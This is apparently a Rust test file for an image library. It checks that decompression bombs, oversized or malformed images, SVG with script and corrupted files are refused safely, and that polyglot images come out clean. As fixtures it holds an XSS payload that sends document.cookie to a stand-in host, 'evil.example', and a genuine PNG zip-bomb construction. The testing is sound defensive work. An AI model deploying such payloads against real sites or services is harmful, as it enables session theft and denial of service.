//! Hostile inputs are refused with the right error, quickly and without large
//! allocations; polyglots come out clean; nothing panics or hangs.
//!
//! Memory is measured as the growth of this process's peak resident set (Linux `VmHWM`,
//! reset through `/proc/self/clear_refs`), with a lock so only one test runs at a time.
#![allow(
    clippy::cast_possible_truncation,
    clippy::cast_sign_loss,
    clippy::cast_precision_loss,
    clippy::cast_possible_wrap,
    reason = "test-pattern arithmetic on small, known values"
)]

mod common;

use std::sync::Mutex;
use std::time::{Duration, Instant};

use airlock_media::{Limits, MediaError, MediaOptions, probe, process, process_variants_only};
use common::GifFrame;

static SERIAL: Mutex<()> = Mutex::new(());

/// Most a refused input may take.
const QUICK: Duration = Duration::from_secs(2);
/// Most the peak resident set may grow while refusing an input.
const SMALL: u64 = 32 * 1024 * 1024;

fn resident_peak() -> Option<(u64, u64)> {
    let status = std::fs::read_to_string("/proc/self/status").ok()?;
    let field = |name: &str| -> Option<u64> {
        let line = status.lines().find(|line| line.starts_with(name))?;
        Some(line.split_whitespace().nth(1)?.parse::<u64>().ok()? * 1024)
    };
    Some((field("VmHWM:")?, field("VmRSS:")?))
}

/// Runs `process` on `input` and returns its result, asserting it was quick and (where the
/// platform lets us measure) allocated little.
fn run_bounded(name: &str, input: &[u8], options: &MediaOptions) -> Result<(), MediaError> {
    let _serial = SERIAL
        .lock()
        .unwrap_or_else(std::sync::PoisonError::into_inner);
    let can_measure = std::fs::write("/proc/self/clear_refs", "5").is_ok();
    let before = resident_peak().map(|(_, rss)| rss);
    let start = Instant::now();
    let result = process(input, options).map(|_| ());
    let elapsed = start.elapsed();
    assert!(elapsed < QUICK, "{name}: took {elapsed:?}");
    if let (true, Some(before), Some((peak, _))) = (can_measure, before, resident_peak()) {
        let growth = peak.saturating_sub(before);
        assert!(growth < SMALL, "{name}: peak memory grew by {growth} bytes");
    }
    result
}

fn expect(name: &str, input: &[u8], code: &str) -> MediaError {
    match run_bounded(name, input, &MediaOptions::default()) {
        Err(error) => {
            assert_eq!(error.code(), code, "{name}: {error}");
            error
        }
        Ok(()) => panic!("{name}: accepted"),
    }
}

fn png_with_ihdr(width: u32, height: u32, idat: &[u8]) -> Vec<u8> {
    let mut ihdr = Vec::new();
    ihdr.extend_from_slice(&width.to_be_bytes());
    ihdr.extend_from_slice(&height.to_be_bytes());
    ihdr.extend_from_slice(&[8, 0, 0, 0, 0]); // 8-bit grayscale, not interlaced
    let mut out = vec![0x89, b'P', b'N', b'G', 0x0D, 0x0A, 0x1A, 0x0A];
    out.extend_from_slice(&common::png_chunk(*b"IHDR", &ihdr));
    out.extend_from_slice(&common::png_chunk(*b"IDAT", idat));
    out.extend_from_slice(&common::png_chunk(*b"IEND", &[]));
    out
}

#[test]
fn png_declaring_100000_squared_is_too_large() {
    let input = png_with_ihdr(100_000, 100_000, &common::zlib_stored(&[0; 64]));
    let info = probe(&input).unwrap();
    assert_eq!((info.width, info.height), (100_000, 100_000));
    expect("PNG 100000x100000", &input, "image-too-large");
}

#[test]
fn png_zip_bomb_is_refused_before_inflating() {
    // 20000x20000 zeros (one filter byte per row): 400 MB inflated, ~2.5 MB deflated.
    let raw = 20_000u64 * 20_001;
    let idat = common::zlib_zeros(raw);
    assert!(idat.len() < 4 * 1024 * 1024);
    let input = png_with_ihdr(20_000, 20_000, &idat);
    let error = expect("PNG zip bomb", &input, "image-too-large");
    assert!(matches!(error, MediaError::TooLarge(_)));
}

#[test]
fn the_zip_bomb_stream_is_real() {
    // Inflating a small instance of the same construction gives exactly its zeros, so the
    // bomb above is a genuine one.
    let width = 300u32;
    let input = png_with_ihdr(width, 200, &common::zlib_zeros(u64::from(width + 1) * 200));
    let processed = process(&input, &MediaOptions::default()).unwrap();
    let original = common::decode(&processed.original).to_luma8();
    assert!(original.as_raw().iter().all(|&v| v == 0));
}

#[test]
fn jpeg_frame_claiming_65000_squared_is_too_large() {
    let mut input = common::jpeg(64, 64, &common::quadrants(64, 64), false);
    let sof = input
        .windows(2)
        .position(|w| w == [0xFF, 0xC0])
        .expect("SOF0");
    input[sof + 5..sof + 7].copy_from_slice(&65_000u16.to_be_bytes());
    input[sof + 7..sof + 9].copy_from_slice(&65_000u16.to_be_bytes());
    expect("JPEG 65000x65000", &input, "image-too-large");

    // Raising the width and height limits alone is not enough: the pixel limit holds.
    let options = MediaOptions {
        limits: Limits {
            max_width: 70_000,
            max_height: 70_000,
            ..Limits::default()
        },
        ..MediaOptions::default()
    };
    let result = run_bounded("JPEG 65000x65000, wide edges", &input, &options);
    assert_eq!(result.unwrap_err().code(), "image-too-large");
}

#[test]
fn an_image_past_the_memory_budget_is_too_large_before_decoding() {
    let options = MediaOptions {
        limits: Limits {
            max_memory: 1024 * 1024,
            ..Limits::default()
        },
        ..MediaOptions::default()
    };
    // 600x600 is within the pixel limits, but its 1.44 MB of decoded pixels are not
    // within a 1 MiB budget; 500x500 (1 MB) is.
    let input = png_with_ihdr(600, 600, &common::zlib_zeros(601 * 600));
    let error = run_bounded("PNG 600x600, 1 MiB budget", &input, &options).unwrap_err();
    assert_eq!(error.code(), "image-too-large");
    assert!(error.to_string().contains("memory budget"), "{error}");
    let input = png_with_ihdr(500, 500, &common::zlib_zeros(501 * 500));
    run_bounded("PNG 500x500, 1 MiB budget", &input, &options).unwrap();
}

#[test]
fn gif_with_5000_frames_is_too_large() {
    let frames: Vec<GifFrame> = (0..5000)
        .map(|i| GifFrame {
            width: 1,
            height: 1,
            left: 0,
            top: 0,
            indices: vec![u8::from(i % 2 == 0)],
            delay: 1,
            transparent: None,
        })
        .collect();
    let input = common::gif(1, 1, &[0, 0, 0, 255, 255, 255], &frames);
    assert_eq!(probe(&input).unwrap().frame_count, 5000);
    expect("GIF 5000 frames", &input, "image-too-large");
}

#[test]
fn gif_frame_larger_than_the_limits_is_refused() {
    // A 10x10 canvas whose one frame claims 30000x30000.
    let mut input = b"GIF89a\x0A\x00\x0A\x00\x80\x00\x00".to_vec();
    input.extend_from_slice(&[0, 0, 0, 255, 255, 255]);
    input.push(0x2C);
    input.extend_from_slice(&[0, 0, 0, 0]);
    input.extend_from_slice(&30_000u16.to_le_bytes());
    input.extend_from_slice(&30_000u16.to_le_bytes());
    input.extend_from_slice(&[0, 2, 2, 0x4C, 0x01, 0, 0x3B]);
    expect("GIF giant frame", &input, "image-too-large");
}

#[test]
fn truncated_jpeg_is_invalid() {
    let full = common::jpeg(256, 256, &common::photo_like(256, 256), false);
    let error = expect("truncated JPEG", &full[..full.len() / 2], "image-invalid");
    assert!(matches!(error, MediaError::Invalid(_)));
    expect("JPEG header only", &full[..40], "image-invalid");
}

#[test]
fn random_bytes_behind_a_png_signature_are_invalid() {
    let mut input = vec![0x89, b'P', b'N', b'G', 0x0D, 0x0A, 0x1A, 0x0A];
    let mut state = 0x1234_5678_u32;
    for _ in 0..4096 {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        input.push((state >> 24) as u8);
    }
    expect("random PNG", &input, "image-invalid");
}

#[test]
fn other_formats_are_unsupported_and_never_rasterized() {
    let svg = br#"<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>"#;
    expect("SVG", svg, "image-unsupported");
    expect(
        "SVG with prolog",
        b"\xEF\xBB\xBF  <?xml version=\"1.0\"?>\n<svg/>",
        "image-unsupported",
    );
    expect("TIFF", b"II*\0\x08\0\0\0\0\0\0\0", "image-unsupported");
    expect(
        "BMP",
        b"BM\x3a\0\0\0\0\0\0\0\x36\0\0\0",
        "image-unsupported",
    );
    expect(
        "HEIC",
        b"\0\0\0\x18ftypheic\0\0\0\0mif1heic",
        "image-unsupported",
    );
    expect("empty", b"", "image-unsupported");
}

#[test]
fn oversized_input_is_refused_before_parsing() {
    let options = MediaOptions {
        limits: Limits {
            max_bytes: 100,
            ..Limits::default()
        },
        ..MediaOptions::default()
    };
    let input = common::jpeg(64, 64, &common::quadrants(64, 64), false);
    let result = run_bounded("max bytes", &input, &options);
    assert_eq!(result.unwrap_err().code(), "image-too-large");
}

const PAYLOAD: &[u8] = b"<script>fetch('https://evil.example/'+document.cookie)</script>";

fn assert_payload_gone(name: &str, input: &[u8]) {
    assert!(common::contains(input, PAYLOAD));
    let processed = process(input, &MediaOptions::default())
        .unwrap_or_else(|e| panic!("{name}: polyglot refused: {e}"));
    for (output, encoded) in common::all_outputs(&processed) {
        assert!(
            !common::contains(&encoded.bytes, PAYLOAD),
            "{name}: payload survived in {output}"
        );
        assert!(
            !common::contains(&encoded.bytes, b"<script"),
            "{name}: script tag in {output}"
        );
        common::assert_consistent(&output, encoded);
    }
}

#[test]
fn gif_script_polyglots_come_out_clean() {
    let frame = GifFrame {
        width: 8,
        height: 8,
        left: 0,
        top: 0,
        indices: vec![1; 64],
        delay: 0,
        transparent: None,
    };
    let gif = common::gif(8, 8, &[0, 0, 0, 255, 0, 0], &[frame]);
    // Payload appended after the trailer.
    let mut appended = gif.clone();
    appended.extend_from_slice(PAYLOAD);
    assert_payload_gone("GIF + appended script", &appended);

    // Payload in a comment extension before the image.
    let mut comment = vec![0x21, 0xFE];
    for chunk in PAYLOAD.chunks(255) {
        comment.push(u8::try_from(chunk.len()).unwrap());
        comment.extend_from_slice(chunk);
    }
    comment.push(0);
    let palette_end = 13 + 6;
    let mut in_comment = gif[..palette_end].to_vec();
    in_comment.extend_from_slice(&comment);
    in_comment.extend_from_slice(&gif[palette_end..]);
    assert_payload_gone("GIF + comment script", &in_comment);
}

#[test]
fn jpeg_png_and_webp_polyglots_come_out_clean() {
    let jpeg = common::jpeg(32, 32, &common::quadrants(32, 32), false);
    let mut input = common::with_segments_after_soi(&jpeg, &[common::segment(0xFE, PAYLOAD)]);
    input.extend_from_slice(PAYLOAD);
    assert_payload_gone("JPEG", &input);

    let png = common::png(
        32,
        32,
        png::ColorType::Rgb,
        png::BitDepth::Eight,
        &common::quadrants(32, 32),
        None,
    );
    let mut input = png[..33].to_vec();
    let mut text = b"Comment\0".to_vec();
    text.extend_from_slice(PAYLOAD);
    input.extend_from_slice(&common::png_chunk(*b"tEXt", &text));
    input.extend_from_slice(&png[33..]);
    input.extend_from_slice(PAYLOAD);
    assert_payload_gone("PNG", &input);

    let mut webp = common::webp_lossless(32, 32, &common::quadrants(32, 32), false);
    webp.extend_from_slice(PAYLOAD);
    assert_payload_gone("WebP", &webp);
}

#[test]
fn a_zero_time_budget_times_out_every_format() {
    let options = MediaOptions {
        limits: Limits {
            decode_timeout: Duration::ZERO,
            ..Limits::default()
        },
        ..MediaOptions::default()
    };
    let jpeg = common::jpeg(64, 64, &common::quadrants(64, 64), false);
    let progressive = common::jpeg(64, 64, &common::quadrants(64, 64), true);
    let png = common::png(
        64,
        64,
        png::ColorType::Rgb,
        png::BitDepth::Eight,
        &common::quadrants(64, 64),
        None,
    );
    let gif = common::gif(
        2,
        2,
        &[0, 0, 0, 255, 255, 255],
        &[GifFrame {
            width: 2,
            height: 2,
            left: 0,
            top: 0,
            indices: vec![0, 1, 1, 0],
            delay: 0,
            transparent: None,
        }],
    );
    let webp = common::webp_lossless(64, 64, &common::quadrants(64, 64), false);
    for (name, input) in [
        ("jpeg", jpeg),
        ("progressive", progressive),
        ("png", png),
        ("gif", gif),
        ("webp", webp),
    ] {
        let error = process(&input, &options).unwrap_err();
        assert_eq!(error, MediaError::TimedOut(Duration::ZERO), "{name}");
        assert_eq!(error.code(), "image-timeout");
    }
}

/// Mutated copies of valid files of every format: each must end in `Ok` or `Err`, never
/// a panic or a hang.
#[test]
fn corrupted_files_never_crash() {
    let valid = [
        common::jpeg(48, 40, &common::photo_like(48, 40), false),
        common::jpeg(48, 40, &common::photo_like(48, 40), true),
        common::png(
            48,
            40,
            png::ColorType::Rgb,
            png::BitDepth::Eight,
            &common::photo_like(48, 40),
            None,
        ),
        common::webp_lossless(48, 40, &common::photo_like(48, 40), false),
        std::fs::read(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/tests/fixtures/animated-lossy.webp"
        ))
        .unwrap(),
        common::gif(
            4,
            4,
            &[0, 0, 0, 255, 255, 255],
            &[GifFrame {
                width: 4,
                height: 4,
                left: 0,
                top: 0,
                indices: vec![0, 1, 1, 0, 1, 0, 0, 1, 0, 0, 1, 1, 1, 1, 0, 0],
                delay: 3,
                transparent: Some(0),
            }],
        ),
    ];
    let options = MediaOptions {
        variants: vec![airlock_media::VariantSpec::jpeg_contain(16, 70)],
        ..MediaOptions::default()
    };
    let mut state = 0x9E37_79B9_u32;
    let mut next = move || {
        state ^= state << 13;
        state ^= state >> 17;
        state ^= state << 5;
        state as usize
    };
    for input in &valid {
        for round in 0..150 {
            let mut mutated = input.clone();
            match round % 3 {
                0 => mutated.truncate(next() % input.len()),
                1 => {
                    for _ in 0..=next() % 4 {
                        let at = next() % mutated.len();
                        mutated[at] ^= 1 << (next() % 8);
                    }
                }
                _ => {
                    let at = next() % mutated.len();
                    mutated[at] = [0x00, 0xFF, 0x7F, 0x80][next() % 4];
                }
            }
            let start = Instant::now();
            let _ = process(&mutated, &options);
            let _ = process_variants_only(&mutated, &options);
            let _ = probe(&mutated);
            assert!(
                start.elapsed() < QUICK,
                "round {round} took {:?}",
                start.elapsed()
            );
        }
    }
}
